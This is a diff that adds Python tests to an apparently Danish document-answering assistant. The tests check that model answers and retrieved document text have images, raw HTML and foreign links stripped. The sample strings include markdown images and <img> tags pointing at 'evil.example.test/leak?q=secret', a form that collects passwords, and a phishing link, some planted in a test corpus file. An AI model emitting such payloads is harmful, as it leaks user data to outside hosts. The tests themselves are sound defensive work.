@@ -146,3 +146,39 @@ def test_staff_upload_route_needs_login_and_is_size_capped(app):
 def test_staff_without_trailing_slash_is_found(app):
     response = httpx.get(f"{app.url}/staff", follow_redirects=True)
     assert response.status_code == 200
+
+
+# --- 4. document and model text rendered inert -----------------------------------------------------
+
+
+def test_model_markdown_loses_images_raw_html_and_foreign_links():
+    from assistant.answer import Answer
+    from assistant.ui import render_answer
+
+    hostile = ("Svar [1]. ![x](http://evil.example.test/leak?q=secret) <img src=http://evil.example.test/a> "
+               "<form action=https://evil.example.test><input name=password></form> "
+               "[klik](https://evil.example.test/phish) [kilde](/files/markedsdialog.md)")
+    shown = render_answer(Answer("q", hostile, False, "llm"), "da")
+    assert "evil.example.test/leak" not in shown and "<img" not in shown and "<form" not in shown
+    assert "](https://evil.example.test/phish)" not in shown
+    assert "[kilde](/files/markedsdialog.md)" in shown
+
+
+def test_document_html_is_quoted_as_text(tmp_path):
+    from assistant.answer import Assistant
+    from assistant.retrieval import Retriever
+    from assistant.store import Store
+    from assistant.sync import sync
+
+    from .conftest import settings_for
+
+    settings = settings_for(tmp_path)
+    (settings.corpus_dir / "hostile.md").write_text(
+        "---\ntitle: Droner\nlanguage: da\n---\n# Droner\n\n## Krav til droner\n"
+        "Havnedroner skal kunne flyve i kraftig vind ![](http://evil.example.test/x.png) "
+        "<img src=http://evil.example.test/y.png> &lt;img src=http://evil.example.test/z.png&gt;.\n",
+        encoding="utf-8")
+    store = Store(settings)
+    sync(store, settings, [settings.corpus_dir])
+    answer = Assistant(Retriever(store, settings), settings).ask("Hvor kraftig vind skal havnedroner kunne flyve i?")
+    assert "<img" not in answer.answer and "![](" not in answer.answer
